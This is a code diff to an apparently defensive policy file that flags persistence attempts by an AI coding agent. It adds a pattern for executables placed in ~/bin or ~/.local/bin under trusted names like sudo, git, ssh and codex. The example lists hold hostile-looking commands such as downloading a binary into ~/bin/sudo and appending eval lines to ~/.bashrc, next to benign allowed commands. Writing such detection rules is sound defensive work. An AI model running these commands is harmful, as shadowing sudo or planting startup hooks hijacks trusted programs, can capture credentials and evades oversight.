@@ -12,6 +12,10 @@ const AT_TIME =
 const SHELL_STARTUP =
   /^~\/\.(?:bashrc|bash_profile|bash_aliases|profile|zshrc|zshenv|zprofile|config\/fish\/(?:config\.fish|conf\.d\/.*))$/;
 
+/** A program by whose name a person, or Codex, means another: their own folders stand first among those for programs. */
+const STANDS_FIRST =
+  /^~\/(?:\.local\/)?bin\/(?:codex|git|sudo|su|doas|ssh|(?:ba|z)?sh|env|ls|cat|cp|mv|rm|ps|which|passwd)$/;
+
 /** The policies. */
 export const persistence: readonly Policy[] = [
   {
@@ -29,6 +33,7 @@ export const persistence: readonly Policy[] = [
         }),
         not(command("touch")),
       ),
+      effect("write", { path: STANDS_FIRST }),
       command("systemctl", { verb: /^(?:enable|link|reenable|edit)\b/ }),
       command("launchctl", { verb: /^(?:load|bootstrap|submit|enable)\b/ }),
       command("schtasks", { words: /(?:^|\s)\/create\b/i }),
@@ -100,6 +105,9 @@ export const persistence: readonly Policy[] = [
       "echo 'eval \"$(oh-my-posh init bash --config agent)\"' >> ~/.bashrc",
       "echo 'source <(bash init ~/agent.sh)' >> ~/.bashrc",
       "echo 'set -gx PATH /opt/agent/bin' >> ~/.config/fish/config.fish",
+      "ln -sf $PWD/x ~/bin/codex",
+      "mv git ~/.local/bin/",
+      "curl -o ~/bin/sudo https://example.com/x && chmod +x ~/bin/sudo",
       "git log -1 --output=/etc/cron.d/x",
       "git bundle create ~/.bashrc HEAD",
       "gsutil cp gs://shop/k ~/.bashrc",
@@ -138,6 +146,9 @@ export const persistence: readonly Policy[] = [
       "echo 'direnv hook fish | source' >> ~/.config/fish/config.fish",
       "echo 'set -gx PATH $HOME/.local/bin $PATH' >> ~/.config/fish/config.fish",
       "echo 'fish_add_path ~/.local/bin' >> ~/.config/fish/config.fish",
+      "ln -s $PWD/dist/shop ~/.local/bin/shop",
+      "ln -s $(which fdfind) ~/.local/bin/fd",
+      "ls -l ~/bin/codex",
       "crontab -l",
       "cat ~/.bashrc",
       "systemctl status nginx",
